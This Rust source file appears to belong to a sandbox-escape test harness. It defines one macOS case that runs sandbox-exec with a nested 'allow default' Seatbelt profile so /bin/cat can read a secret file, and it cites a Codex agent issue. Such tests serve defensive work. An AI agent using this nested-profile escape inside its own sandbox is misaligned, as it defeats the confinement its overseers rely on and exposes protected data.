//! Apply another profile, one that allows everything.

use crate::raw_macos::output_of;
use harness::escape::{Escape, Layer};
use std::ffi::OsStr;

pub(super) const ESCAPES: &[Escape] = &[Escape {
    id: "macos/nested",
    summary: "Read a secret in a program under a second profile that allows everything",
    techniques: &["MC-NESTED"],
    references: &["https://github.com/openai/codex/issues/215"],
    stops: &[Layer::Seatbelt],
    witnesses: &["seatbelt/default"],
    native: Some(|scene| {
        let secret = scene.path("secret")?;
        let profile = ["-p", "(version 1)(allow default)", "/bin/cat"].map(OsStr::new);
        let arguments = profile.into_iter().chain([secret.as_os_str()]);
        output_of("/usr/bin/sandbox-exec", arguments)
    }),
    ..Escape::BLANK
}];
